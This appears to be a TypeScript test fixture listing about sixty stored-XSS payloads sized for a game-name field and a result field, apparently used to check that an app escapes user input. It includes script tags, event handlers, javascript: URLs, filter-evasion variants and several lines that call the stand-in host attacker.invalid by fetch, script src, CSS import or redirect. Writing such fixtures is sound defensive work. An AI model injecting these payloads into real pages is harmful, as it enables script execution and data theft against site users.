/**
 * Well-known stored-XSS shapes, each of which would set window.__xss, open a dialog or call the attacker's
 * host if a page ever treated it as markup or script. Short enough for a game name (60 characters).
 */
export const ATTACKER_HOST = 'attacker.invalid';

const sink = `fetch('//${ATTACKER_HOST}/x')`;

export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss=1</script>',
  '<script src=//attacker.invalid/a.js></script>',
  '<img src=x onerror=window.__xss=1>',
  `<img src=x onerror="${sink}">`,
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<body onload=window.__xss=1>',
  '<iframe src=javascript:window.__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '<a href=javascript:window.__xss=1>x</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">x</a>',
  '<input autofocus onfocus=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror=window.__xss=1>',
  '<audio src=x onerror=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<object data=javascript:window.__xss=1>',
  '<embed src=javascript:window.__xss=1>',
  '<math><a xlink:href=javascript:alert(1)>x',
  '<form action=javascript:window.__xss=1><button>x',
  '<isindex action=javascript:alert(1) type=image>',
  '<link rel=stylesheet href=//attacker.invalid/s.css>',
  '<style>@import "//attacker.invalid/s.css"</style>',
  '<div style="background:url(//attacker.invalid/b)">',
  '<meta http-equiv=refresh content="0;url=//attacker.invalid">',
  '<base href=//attacker.invalid/>',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '</title><script>window.__xss=1</script>',
  '</textarea><script>window.__xss=1</script>',
  '<scr<script>ipt>window.__xss=1</script>',
  '<SCRIPT>window.__xss=1</SCRIPT>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<img """><script>window.__xss=1</script>">',
  '<img src="x` `<script>window.__xss=1</script>"` `>',
  '<svg/onload=window.__xss=1>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src=1 onerror=alert`1`>',
  '<x onclick=window.__xss=1>click',
  '<table background=javascript:alert(1)>',
  '<p onmouseover=window.__xss=1>hover</p>',
  '<select onfocus=window.__xss=1 autofocus>',
  '<textarea autofocus onfocus=window.__xss=1>',
  '<keygen autofocus onfocus=window.__xss=1>',
  '<frameset onload=window.__xss=1>',
  '<template><script>window.__xss=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><animate onbegin=window.__xss=1 attributeName=x>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) />',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1}',
  'javascript:window.__xss=1',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<img src=//attacker.invalid/pixel.gif>',
  // Short enough for a result (20 characters).
  '<svg onload=alert()>',
  '<script>a()</script>',
  '"><b id=x>bold</b>',
  '<i onclick=alert()>',
  "'-alert(1)-'",
];

/** Payloads that fit a result (at most 20 characters). */
export const SHORT_XSS_PAYLOADS = XSS_PAYLOADS.filter((payload) => payload.length <= 20);
